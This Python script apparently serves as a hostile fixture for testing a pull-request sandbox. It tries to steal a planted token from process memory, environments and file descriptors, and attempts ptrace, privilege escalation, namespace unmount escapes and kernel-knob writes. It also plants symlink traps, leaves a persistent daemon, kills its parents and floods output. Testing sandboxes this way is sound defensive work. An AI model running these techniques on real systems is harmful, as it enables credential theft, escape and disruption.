"""What the code of a pull request may try: steal a token, write where it should not, live on, harm who started it.

Runs inside a sandbox with a plain interpreter. It is told where to look but not what the token is, only its shape; what
it gets hold of goes to `found.json` in its own folder, as {attempt: what}. An attempt that fails leaves nothing there.

    hostile.py '{"pids": [...], "secrets": [...], "outside": [...], "port": 1, "socket": "name", "out": "...",
                 "everything": true, "harm": true}'

With `everything` it looks at every process, else only at those named; with `harm` it kills those. A run that nothing
protects gets neither.
"""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import json
import os
import re
import shutil
import signal
import socket
import stat
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

SHAPE = re.compile(rb"ghs_" + rb"Plan" + rb"ted[0-9a-f]{24}")
FILLING = 24 << 20


def search(data: bytes) -> str | None:
    """The token, where it is in some bytes."""
    match = SHAPE.search(data)
    return match[0].decode() if match else None


def read(path: str | Path, limit: int = 1 << 20) -> bytes:
    """What is in a file, as far as one may know."""
    with contextlib.suppress(OSError), open(path, "rb") as file:
        return file.read(limit)
    return b""


class Thief:
    """Tries one thing after the other."""

    def __init__(self, told: dict[str, Any]) -> None:
        self.told, self.out = told, Path(told["out"])
        self.found: dict[str, str] = {}

    def attempt(self, name: str, action: Callable[[], str | None]) -> None:
        """Note what an action came back with; whatever stops it stops only it."""
        with contextlib.suppress(OSError, ValueError, subprocess.SubprocessError):
            got = action()
            if got:
                self.found[name] = got

    def processes(self) -> Iterator[Path]:
        """Entries of /proc to look into."""
        every = [entry.name for entry in Path("/proc").iterdir() if entry.name.isdigit()]
        named = [str(pid) for pid in self.told["pids"]]
        for name in dict.fromkeys([*named, *(every if self.told["everything"] else [])]):
            if name != str(os.getpid()):
                yield Path("/proc", name)

    def steal(self) -> None:
        """Read what is not ours."""
        self.attempt("environment", lambda: search(repr(dict(os.environ)).encode()))
        for entry in self.processes():
            for name in ("environ", "cmdline"):
                self.attempt(f"process {name}", lambda e=entry, n=name: search(read(e / n)))
            self.attempt("process mem", lambda e=entry: memory(e))
            self.attempt("process fd", lambda e=entry: descriptors(e))
            for secret in self.told["secrets"]:
                for way in ("root", "cwd"):
                    self.attempt(f"process {way}", lambda e=entry, s=secret, w=way: search(read(f"{e}/{w}{s}")))
        for secret in self.told["secrets"]:
            self.attempt("file", lambda s=secret: search(read(s)))
        self.attempt("own descriptors", lambda: descriptors(Path("/proc/self")))
        self.attempt("loopback", self.loopback)
        self.attempt("abstract socket", self.abstract)
        self.attempt("device", self.device)
        self.attempt("trace", self.trace)

    def loopback(self) -> str | None:
        """Ask the server of the one who started us."""
        with urllib.request.urlopen(f"http://127.0.0.1:{self.told['port']}/", timeout=3) as answer:
            return search(answer.read())

    def abstract(self) -> str | None:
        """A Unix socket without a file, which no mount hides."""
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
            client.settimeout(3)
            client.connect("\0" + self.told["socket"])
            return search(client.recv(1000))

    def device(self) -> str | None:
        """The disk itself holds every file. It is opened, not read."""
        for entry in Path("/dev").rglob("*"):
            with contextlib.suppress(OSError):
                about = entry.lstat()
                if stat.S_ISBLK(about.st_mode) or entry.name in {"mem", "kmem", "port"}:
                    os.close(os.open(entry, os.O_RDONLY))
                    return str(entry)
        return None

    def trace(self) -> str | None:
        """Attach to another process as a debugger does."""
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in self.told["pids"]:
            if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
                os.waitpid(pid, 0x40000000)
                libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH
                return str(pid)
        return None

    def break_out(self) -> None:
        """Undo what stands in the way."""
        for place in self.told["outside"]:
            with contextlib.suppress(
                OSError
            ):  # whether it got there, and not into a copy, is for the other side to see
                (Path(place) / "planted-by-hostile-code").write_text("x")
        self.attempt("become root", lambda: os.setuid(0) or f"uid {os.getuid()}" if os.getuid() else None)
        for knob in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper"):
            self.attempt("kernel knob", lambda k=knob: os.close(os.open(k, os.O_WRONLY)) or k)
        if not self.told["everything"]:
            return
        for secret in self.told["secrets"]:
            covers = " ".join(f"umount -l {parent};" for parent in list(Path(secret).parents)[:-1])
            script = f"{covers} umount -l {secret}; mount -o remount,rw /; cat {secret}"
            self.attempt("unmount", lambda s=script: search(quietly(["unshare", "-Urm", "sh", "-c", s])))
            self.attempt("unmount", lambda s=script: search(quietly(["sh", "-c", s])))
        self.attempt("mount", lambda: search(quietly(["unshare", "-Urpfm", "--mount-proc", "cat", "/proc/1/environ"])))

    def plant(self) -> None:
        """Leave things behind for those who come to read our results, and somebody to watch over them."""
        secret = self.told["secrets"][0]
        with contextlib.suppress(OSError):
            (self.out / "link").symlink_to(secret)
            (self.out / "folder").symlink_to(Path(secret).parent)
            os.mkfifo(self.out / "pipe")
            with open(self.out / "sparse", "wb") as file:
                file.truncate(1 << 33)
        self.attempt("hard link", lambda: os.link(secret, self.out / "hard") or "made")
        (self.out / "twice").write_text("1")
        with contextlib.suppress(OSError):
            os.link(self.out / "twice", self.out / "again")
        daemon(self.out / "alive")

    def attack(self) -> None:
        """Kill those who started us."""
        if self.told["harm"]:
            for pid in self.told["pids"]:
                self.attempt(f"kill {pid}", lambda p=pid: os.kill(p, signal.SIGKILL) or "sent")

    def save(self) -> None:
        """Say what was found."""
        (self.out / "found.json").write_text(json.dumps(self.found))


def memory(entry: Path) -> str | None:
    """Look through what a process may write of its memory."""
    budget = 256 << 20
    with open(entry / "mem", "rb", 0) as file:
        for line in read(entry / "maps", 1 << 22).decode().splitlines():
            place, rights = line.split()[:2]
            first, last = (int(number, 16) for number in place.split("-"))
            if rights.startswith("rw") and last - first < budget:
                budget -= last - first
                with contextlib.suppress(OSError, OverflowError):
                    file.seek(first)
                    got = search(file.read(last - first))
                    if got:
                        return got
    return None


def descriptors(entry: Path) -> str | None:
    """Look into the files that a process holds open."""
    for link in (entry / "fd").iterdir():
        with contextlib.suppress(OSError):
            if stat.S_ISREG(link.stat().st_mode) and search(read(link)):
                return search(read(link))
    return None


def quietly(command: list[str]) -> bytes:
    """What a command prints, if it is there."""
    if shutil.which(command[0]) is None:
        return b""
    done = subprocess.run(command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=20)
    return done.stdout


def daemon(lock: Path) -> None:
    """Leave a process behind that nobody waits for; it holds the lock as long as it lives."""
    ready, tell = os.pipe()
    if os.fork() == 0:
        os.setsid()
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        if os.fork() == 0:
            held = os.open(lock, os.O_WRONLY | os.O_CREAT)
            fcntl.flock(held, fcntl.LOCK_EX)
            for number in (0, 1, 2):
                os.close(number)
            os.write(tell, b".")
            while True:
                time.sleep(60)
        os._exit(0)
    os.read(ready, 1)


def main() -> None:
    """Try everything, then print without end."""
    thief = Thief(json.loads(sys.argv[1]))
    thief.steal()
    thief.break_out()
    thief.save()
    thief.plant()
    thief.attack()
    thief.save()
    line = b"ha " * 340 + b"\n"
    for _ in range(FILLING // len(line)):
        os.write(1, line)


if __name__ == "__main__":
    main()
